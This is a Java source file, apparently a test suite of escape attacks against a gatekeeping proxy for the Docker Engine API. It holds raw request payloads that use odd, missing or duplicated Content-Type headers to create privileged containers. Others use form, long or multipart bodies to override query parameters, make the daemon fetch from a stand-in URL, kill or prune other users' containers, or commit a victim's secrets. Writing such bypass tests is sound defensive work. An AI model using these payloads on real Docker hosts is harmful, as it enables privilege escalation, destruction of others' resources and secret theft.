package dev.cofferdam.gate.escape;

import static dev.cofferdam.gate.escape.Effect.created;
import static dev.cofferdam.gate.escape.Effect.has;

import java.util.ArrayList;
import java.util.List;

/** Bodies under another name, and forms that beat the query. */
final class ContentTypeAttacks {
  private static final String GROUP = "content type";
  private static final String BODY = Attack.inHostConfig("'Privileged':true");
  private static final Effect PRIVILEGED = created("/HostConfig/Privileged", "true");

  private ContentTypeAttacks() {}

  static List<Attack> all() {
    List<Attack> all = new ArrayList<>();
    for (String type :
        List.of(
            "Application/JSON; charset=utf-16",
            "application/json ;",
            "application/json;a=b",
            "\tapplication/json")) {
      all.add(typed(type));
    }
    for (String type :
        List.of("text/plain", "application/vnd.x+json", "application/json, text/plain", "*/*")) {
      all.add(typed(type).elsewhere());
    }
    all.add(
        Attack.of(
                GROUP,
                "no type",
                PRIVILEGED,
                RawRequest.headed(create(), BODY, "Content-Length: ${length}"))
            .elsewhere());
    all.add(
        Attack.of(
            GROUP,
            "two types",
            PRIVILEGED,
            RawRequest.headed(
                create(),
                BODY,
                "Content-Type: application/json",
                "Content-Type: application/x-www-form-urlencoded",
                "Content-Length: ${length}")));
    forms(all);
    return all;
  }

  private static void forms(List<Attack> all) {
    all.add(
        Attack.of(
            GROUP,
            "a form beats fromImage: the daemon fetches a URL",
            new Effect.Dialled(),
            RawRequest.form(
                "/v1.41/images/create?fromImage=${image}",
                "fromImage=&fromSrc=http://${dial}/x.tar&repo=${name}")));
    all.add(
        form(
            "rename of another's container",
            "/v1.41/containers/${asleep}/rename?name=${name}",
            "name=${name}-form",
            new Effect.Changed("asleep.name")));
    all.add(
        form(
            "tag over the host's image",
            "/v1.41/images/${image}/tag?repo=${name}&tag=1",
            "repo=${hostImage}&tag=latest",
            new Effect.Changed("host.image")));
    all.add(
        form(
            "a name for the new container",
            "/v1.41/containers/${victim}/kill?signal=0",
            "signal=KILL",
            new Effect.Changed("victim.running")));
    all.add(
        form(
            "prune filters",
            "/v1.41/containers/prune?filters=%7B%22label%22%3A%5B%22dev.cofferdam.owner%3Dann%22%5D%7D",
            "filters=%7B%22label%22%3A%5B%22esc.victim%3D${nonce}%22%5D%7D",
            new Effect.Changed("asleep.gone")));
    all.add(
        form(
            "volume prune filters",
            "/v1.41/volumes/prune?filters=%7B%22label%22%3A%5B%22none%22%5D%7D",
            "filters=%7B%22label%22%3A%5B%22esc.victim%3D${nonce}%22%5D%7D",
            new Effect.Changed("spare.gone")));
    all.add(
        form(
            "network prune filters",
            "/v1.41/networks/prune?filters=%7B%22label%22%3A%5B%22none%22%5D%7D",
            "filters=%7B%22label%22%3A%5B%22esc.victim%3D${nonce}%22%5D%7D",
            new Effect.Changed("idle.gone")));
    all.add(
        form(
                "the container to commit",
                "/v1.41/commit?container=${mine}&repo=${name}",
                "container=${victim}&repo=${name}",
                has("/v1.41/images/${name}/json", "/Config/Env", "${secret}"))
            .elsewhere());
    all.add(
        form(
            "stop with another time",
            "/v1.41/containers/${victim}/stop?t=60",
            "t=0",
            new Effect.Changed("victim.running")));
    all.add(
        form(
                "resize with a form on exec",
                "/v1.41/exec/${victimExec}/start",
                "Detach=1",
                new Effect.Changed("victim.exec"))
            .elsewhere());
    all.add(
        Attack.of(
            GROUP,
            "a long form beats the build's query: the daemon fetches a URL",
            new Effect.Dialled(),
            RawRequest.form(
                "/v1.41/build?t=${name}", "x=" + "y".repeat(15_000) + "&remote=http://${dial}/c")));
    all.add(
        Attack.of(
                GROUP,
                "a multipart form beats the build's query",
                new Effect.Dialled(),
                RawRequest.send(
                    "POST",
                    "/v1.41/build?t=${name}",
                    "multipart/form-data; boundary=b",
                    "--b\r\nContent-Disposition: form-data; name=\"remote\"\r\n\r\nhttp://${dial}/c\r\n"
                        + "--b--\r\n"))
            .elsewhere());
    all.add(
        Attack.of(
                GROUP,
                "a form where an archive belongs",
                has("/v1.41/containers/${victim}/changes", "", "/planted"),
                RawRequest.send(
                    "PUT",
                    "/v1.41/containers/${victim}/archive?path=/tmp",
                    "application/x-www-form-urlencoded",
                    "path=/"))
            .elsewhere());
    all.add(
        form(
                "a form for the exec's resize",
                "/v1.41/containers/${mine}/exec",
                "{\"Cmd\":[\"true\"],\"Privileged\":true}",
                new Effect.NewExec("/ProcessConfig/privileged", node -> node.asBoolean(false)))
            .elsewhere());
  }

  private static String create() {
    return "/v1.41/containers/create?name=${name}";
  }

  private static Attack typed(String type) {
    return Attack.of(
        GROUP,
        "create as " + type.strip() + (type.startsWith("\t") ? " after a tab" : ""),
        PRIVILEGED,
        RawRequest.headed(create(), BODY, "Content-Type: " + type, "Content-Length: ${length}"));
  }

  private static Attack form(String name, String path, String form, Effect effect) {
    return Attack.of(GROUP, "form: " + name, effect, RawRequest.form(path, form));
  }
}
